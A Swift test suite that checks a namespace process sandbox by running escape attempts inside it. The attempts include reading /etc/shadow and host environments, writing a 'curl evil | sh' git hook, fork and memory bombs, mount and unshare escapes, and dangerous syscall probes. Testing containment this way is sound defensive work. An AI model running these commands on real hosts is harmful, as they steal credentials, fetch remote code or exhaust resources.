import Foundation
import Hyper
import Testing
@testable import HyperProcess

/// Escape attempts and bad input against real namespace sandboxes on this host. Each attempt must fail inside,
/// and the host must be unchanged afterwards.
@Suite("Process sandbox escapes", .serialized, .enabled(if: processSandboxesAvailable, "needs user namespaces and seccomp"))
struct EscapeTests {
    @Test func commandsRunAndExitCodesPassThrough() throws {
        let run = try runScript("echo hello; echo oops >&2; exit 42")
        #expect(run.exit == .exited(42))
        #expect(run.output == "hello\n" && run.errorOutput == "oops\n")
        #expect(try runSandboxed(["/no/such"]).exit == .exited(127))
        #expect(try runSandboxed(["no-such-command-anywhere"]).exit == .exited(127))
        #expect(try runSandboxed(["/etc/hostname"]).exit == .exited(126), "a file without exec permission")
        #expect(try runScript("kill -TERM $$").exit == .signaled(15))
    }

    @Test func hostSecretsAreUnreachable() throws {
        let secret = "/tmp/hyperctl-host-secret-" + UUID().uuidString
        try "top secret".write(toFile: secret, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(atPath: secret) }
        let run = try runScript("cat /etc/shadow; cat \(secret); ls /root; ls /home; cat /proc/1/environ | tr '\\0' '\\n'; echo done")
        #expect(!run.output.contains("top secret"))
        #expect(!run.output.contains("root:"), "no shadow file inside")
        #expect(run.errorOutput.contains("/etc/shadow: No such file"))
        #expect(run.output.hasSuffix("done\n"))
    }

    @Test func onlyTheWorkspaceIsWritable() throws {
        let workspace = try makeWorkspace()
        defer { try? FileManager.default.removeItem(atPath: workspace) }
        let marker = "hyperctl-escape-\(UUID().uuidString)"
        let run = try runScript("""
            for target in /etc /usr /usr/bin /bin / /var /tmp/../etc; do touch $target/\(marker) 2>/dev/null && echo "wrote $target"; done
            echo inside > /tmp/\(marker) && echo "private tmp ok"
            echo result > \(workspace)/result.txt && echo "workspace ok"
            """, workspace: workspace)
        #expect(!run.output.contains("wrote"), "wrote outside the workspace: \(run.output)")
        #expect(run.output.contains("private tmp ok") && run.output.contains("workspace ok"))
        for path in ["/etc/\(marker)", "/usr/\(marker)", "/\(marker)", "/tmp/\(marker)"] {
            #expect(!FileManager.default.fileExists(atPath: path), "\(path) appeared on the host")
        }
        #expect((try? String(contentsOfFile: workspace + "/result.txt", encoding: .utf8)) == "result\n")
        let attributes = try FileManager.default.attributesOfItem(atPath: workspace + "/result.txt")
        #expect((attributes[.ownerAccountID] as? NSNumber)?.uint32Value == getuid(), "files the command writes belong to the workspace owner")
    }

    @Test func repositoryHooksAndConfigStayReadOnly() throws {
        let workspace = try makeWorkspace()
        defer { try? FileManager.default.removeItem(atPath: workspace) }
        try FileManager.default.createDirectory(atPath: workspace + "/.git/hooks", withIntermediateDirectories: true)
        try "[core]\n".write(toFile: workspace + "/.git/config", atomically: true, encoding: .utf8)
        let run = try runScript("""
            echo 'curl evil | sh' > .git/hooks/pre-commit && echo "hook written"
            echo '[core] hooksPath = /tmp' >> .git/config && echo "config written"
            echo ok > .git/HEAD && echo "head written"
            """, workspace: workspace)
        #expect(!run.output.contains("hook written") && !run.output.contains("config written"))
        #expect(run.output.contains("head written"), "the rest of the repository stays usable")
        #expect(!FileManager.default.fileExists(atPath: workspace + "/.git/hooks/pre-commit"))
        #expect(try String(contentsOfFile: workspace + "/.git/config", encoding: .utf8) == "[core]\n")
    }

    @Test func hooksCanBeMadeWritableOnRequest() throws {
        let workspace = try makeWorkspace()
        defer { try? FileManager.default.removeItem(atPath: workspace) }
        try FileManager.default.createDirectory(atPath: workspace + "/.git/hooks", withIntermediateDirectories: true)
        let run = try runScript("echo '#!/bin/sh' > .git/hooks/pre-commit && echo written", workspace: workspace) {
            $0.protectsHostExecutedFiles = false
        }
        #expect(run.output == "written\n")
    }

    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/busybox"), "needs busybox-static for a root tree"))
    func rootfsReplacesTheHostSystemDirectories() throws {
        let root = try makeWorkspace()
        defer { try? FileManager.default.removeItem(atPath: root) }
        try FileManager.default.createDirectory(atPath: root + "/usr/bin", withIntermediateDirectories: true)
        try FileManager.default.copyItem(atPath: "/usr/bin/busybox", toPath: root + "/usr/bin/busybox")
        try FileManager.default.createSymbolicLink(atPath: root + "/bin", withDestinationPath: "usr/bin")
        let run = try runSandboxed(["/bin/busybox", "sh", "-c", "/bin/busybox ls /usr/bin; test -e /usr/bin/python3 || echo no-host-usr"]) {
            $0.rootfs = root
        }
        #expect(run.output == "busybox\nno-host-usr\n", "\(run.output) \(run.errorOutput)")
    }

    @Test func privilegesAreGone() throws {
        let run = try runScript("grep -E '^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status")
        for line in ["CapInh:\t0000000000000000", "CapPrm:\t0000000000000000", "CapEff:\t0000000000000000",
                     "CapBnd:\t0000000000000000", "CapAmb:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2"] {
            #expect(run.output.contains(line), "missing \(line) in \(run.output)")
        }
    }

    @Test func sandboxRootIsNotHostRoot() throws {
        let marker = "31.\(Int.random(in: 100_000...999_999))"
        let workspace = try makeWorkspace()
        defer { try? FileManager.default.removeItem(atPath: workspace) }
        let thread = Thread { _ = try? runSandboxed(["sleep", marker], workspace: workspace) { $0.limits.timeout = .seconds(5) } }
        thread.start()
        #expect(eventually { !hostProcesses(containing: "sleep \(marker)").isEmpty })
        for pid in hostProcesses(containing: "sleep \(marker)") {
            let status = (try? String(contentsOfFile: "/proc/\(pid)/status", encoding: .utf8)) ?? ""
            let uidLine = status.split(separator: "\n").first { $0.hasPrefix("Uid:") } ?? ""
            #expect(!uidLine.contains("\t0\t"), "the sandboxed command runs as host uid 0: \(uidLine)")
            for pid in hostProcesses(containing: "sleep \(marker)") { kill(pid, SIGKILL) }
        }
    }

    @Test func hostProcessesAreInvisible() throws {
        let run = try runScript("ls /proc | grep -E '^[0-9]+$' | sort -n | tr '\\n' ' '; kill -0 \(getpid()) 2>/dev/null && echo 'signalled the host'")
        let pids = run.output.split(separator: " ").compactMap { Int($0) }
        #expect(pids.allSatisfy { $0 < 10 }, "sandbox sees \(pids)")
        #expect(!run.output.contains("signalled the host"))
    }

    @Test func hostLoopbackIsUnreachable() throws {
        let listener = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        defer { close(listener) }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        address.sin_port = 0
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        _ = withUnsafeMutablePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(listener, $0, length) } }
        _ = withUnsafeMutablePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(listener, $0, &length) } }
        #expect(listen(listener, 4) == 0)
        let port = Int(UInt16(bigEndian: address.sin_port))
        let probe = python3Available
            ? "python3 -c \"import socket; socket.create_connection(('127.0.0.1', \(port)), 2)\" 2>&1 | tail -1"
            : "echo probe > /dev/tcp/127.0.0.1/\(port)"
        let run = try runScript("\(probe); ip addr 2>/dev/null | grep -c inet; cat /proc/net/route 2>/dev/null | wc -l")
        #expect(python3Available == false || run.output.contains("ConnectionRefusedError"), "connect result: \(run.output)")
        // Nothing reached the host's listener.
        _ = fcntl(listener, F_SETFL, O_NONBLOCK)
        #expect(accept(listener, nil, nil) < 0)
    }

    @Test func mountAndNamespaceEscapesFail() throws {
        let run = try runScript("""
            mount -t tmpfs none /tmp 2>/dev/null && echo "mounted"
            unshare -r true 2>/dev/null && echo "unshared user"
            unshare -n true 2>/dev/null && echo "unshared net"
            chroot / true 2>/dev/null && echo "chrooted"
            mount -o remount,rw / 2>/dev/null && echo "remounted"
            echo end
            """)
        #expect(run.output == "end\n", "an escape succeeded: \(run.output)")
    }

    @Test(.enabled(if: python3Available, "needs python3 for raw syscalls"))
    func dangerousSyscallsAreRefused() throws {
        let script = """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for name, number in [("keyctl", 250), ("add_key", 248), ("bpf", 321), ("userfaultfd", 323), ("perf_event_open", 298),
                             ("io_uring_setup", 425), ("kexec_load", 246), ("init_module", 175), ("open_by_handle_at", 304),
                             ("unshare", 272), ("setns", 308), ("mount", 165), ("pivot_root", 155), ("fsopen", 430), ("ptrace_attach_pid1_via_pidfd_getfd", 438)]:
            result = libc.syscall(number, 0, 0, 0, 0, 0)
            print(name, result, ctypes.get_errno())
        print("clone3", libc.syscall(435, 0, 0), ctypes.get_errno())
        print("clone-newuser", libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0), ctypes.get_errno())
        import fcntl, termios
        try:
            fcntl.ioctl(0, termios.TIOCSTI, b"x")
            print("tiocsti allowed")
        except OSError as error:
            print("tiocsti", error.errno)
        try:
            libc.syscall(16, 0, 0x5412 | (1 << 32), ctypes.c_char_p(b"x"))
            print("tiocsti-high", ctypes.get_errno())
        except Exception as error:
            print("tiocsti-high error", error)
        """
        let run = try runSandboxed(["python3", "-c", script])
        #expect(run.exit == .exited(0), "stderr: \(run.errorOutput)")
        for line in run.output.split(separator: "\n") {
            let words = line.split(separator: " ")
            switch words.first {
            case "clone3": #expect(words.last == "38", "\(line)")
            case "tiocsti", "tiocsti-high": #expect(words.last == "1", "\(line)")
            default: #expect(words.count == 3 && words[1] == "-1" && words[2] == "1", "\(line) should fail with EPERM")
            }
        }
        #expect(run.output.split(separator: "\n").count == 19)
    }

    @Test(.enabled(if: python3Available, "needs python3 for raw syscalls"))
    func foreignSyscallABIsKillTheProcess() throws {
        let x32 = try runSandboxed(["python3", "-c", "import ctypes; ctypes.CDLL(None).syscall(0x40000000 | 39); print('survived')"])
        #expect(x32.exit == .signaled(31))
        #expect(!x32.output.contains("survived"))
    }

    @Test func forkBombIsContained() throws {
        let marker = "29.\(Int.random(in: 100_000...999_999))"
        let run = try runScript("i=0; while [ $i -lt 300 ]; do sleep \(marker) & i=$((i+1)); done; echo 'all forked'") {
            $0.limits.pids = 40
            $0.limits.timeout = .seconds(10)
        }
        #expect(!run.output.contains("all forked"), "300 processes started under a limit of 40")
        #expect(run.exit != .timedOut)
        #expect(eventually { hostProcesses(containing: "sleep \(marker)").isEmpty }, "sandbox processes outlived the sandbox")
        #expect(eventually { leftoverCgroups().isEmpty })
    }

    @Test(.enabled(if: python3Available, "needs python3 to count forks"))
    func forkBombStopsAtThePidsLimit() throws {
        let script = """
        import os, time
        count = 0
        try:
            while count < 500:
                if os.fork() == 0:
                    time.sleep(30)
                    os._exit(0)
                count += 1
        except OSError as error:
            print("blocked", count, error.errno)
        """
        let run = try runSandboxed(["python3", "-c", script]) {
            $0.limits.pids = 40
            $0.limits.timeout = .seconds(10)
        }
        let words = run.output.split(whereSeparator: \.isWhitespace)
        #expect(words.first == "blocked" && words.last == "11", "\(run.output) \(run.errorOutput)")
        #expect((words.count == 3 ? Int(words[1]) : nil).map { $0 > 5 && $0 < 40 } == true, "\(run.output)")
    }

    @Test func memoryBombIsContained() throws {
        let run = try runScript("x=$(head -c 300000000 /dev/zero | tr '\\0' a); echo survived ${#x}") {
            $0.limits.memoryBytes = 64 << 20
            $0.limits.timeout = .seconds(30)
        }
        #expect(!run.output.contains("survived"))
        #expect(run.exit == .exited(137) || run.exit == .signaled(9) || run.exit == .exited(1) || run.exit == .exited(2),
                "exit was \(run.exit)")
        #expect(leftoverCgroups().isEmpty)
    }

    @Test func timeoutKillsTheWholeTreeAndLeavesNothing() throws {
        let marker = "47.\(Int.random(in: 100_000...999_999))"
        let started = Date()
        let run = try runScript("setsid sleep \(marker) & (sleep \(marker) &) ; sleep \(marker)") {
            $0.limits.timeout = .milliseconds(500)
            $0.limits.memoryBytes = 256 << 20
        }
        #expect(run.exit == .timedOut)
        #expect(Date().timeIntervalSince(started) < 5)
        #expect(eventually { hostProcesses(containing: "sleep \(marker)").isEmpty }, "orphans survived the timeout")
        #expect(eventually { leftoverCgroups().isEmpty }, "cgroups left: \(leftoverCgroups())")
        let mounts = (try? String(contentsOfFile: "/proc/self/mountinfo", encoding: .utf8)) ?? ""
        #expect(!mounts.contains("hyper-jail"))
    }

    @Test func environmentAndDescriptorsAreClean() throws {
        let leaked = open("/etc/hostname", O_RDONLY)  // Deliberately not close-on-exec.
        defer { close(leaked) }
        setenv("HYPERCTL_TEST_HOST_SECRET", "hunter2", 1)
        defer { unsetenv("HYPERCTL_TEST_HOST_SECRET") }
        let run = try runScript("env | sort; ls /proc/self/fd | tr '\\n' ' '") {
            $0.environment = [EnvironmentVariable(name: "GIVEN", value: "yes")]
        }
        #expect(run.output.contains("GIVEN=yes"))
        #expect(!run.output.contains("hunter2"))
        let lines = run.output.split(separator: "\n")
        let variables = lines.dropLast().map { $0.split(separator: "=").first.map(String.init) ?? "" }
        #expect(Set(variables).isSubset(of: ["GIVEN", "PWD", "OLDPWD", "SHLVL", "_"]), "unexpected variables: \(variables)")
        let descriptors = (lines.last ?? "").split(separator: " ").compactMap { Int($0) }
        #expect(descriptors.allSatisfy { $0 <= 3 }, "descriptors inside: \(descriptors)")
    }

    @Test func devicesAreMinimal() throws {
        let run = try runScript("ls /dev | tr '\\n' ' '; ls /dev/kvm /dev/mem /dev/sda 2>&1 | grep -c 'No such'")
        for device in ["null", "zero", "full", "random", "urandom", "tty", "pts", "ptmx", "shm"] {
            #expect(run.output.contains(device))
        }
        #expect(run.output.hasSuffix("3\n"))
    }

    @Test func stdinIsForwardedOnlyWhenInteractive() throws {
        let forwarded = try runSandboxed(["cat"], stdin: "typed\n")
        #expect(forwarded.output == "typed\n")
        let closed = try runSandboxed(["cat"])
        #expect(closed.output.isEmpty && closed.exit == .exited(0))
    }

    @Test func readOnlyMountsAreReadOnly() throws {
        let data = try makeWorkspace()
        defer { try? FileManager.default.removeItem(atPath: data) }
        try "shared\n".write(toFile: data + "/input.txt", atomically: true, encoding: .utf8)
        let run = try runScript("cat /data/input.txt; echo x > /data/input.txt 2>/dev/null && echo 'wrote ro'") {
            $0.mounts = [Mount(source: data, destination: "/data", readOnly: true)]
        }
        #expect(run.output == "shared\n")
        #expect(try String(contentsOfFile: data + "/input.txt", encoding: .utf8) == "shared\n")
    }

    @Test func unsupportedFeaturesAreRefused() throws {
        var spec = SandboxSpec()
        spec.command = ["true"]
        spec.workspace = "/tmp"
        var options = LaunchOptions()
        options.faults = [PhaseFault(phase: .created, kind: .fail)]
        #expect {
            _ = try ProcessBackend().launch(try spec.validated(), options: options)
        } throws: { error in
            (error as? HyperError)?.code == .unsupportedFeature && (error as? HyperError)?.message.contains("fault injection") == true
        }
    }
}
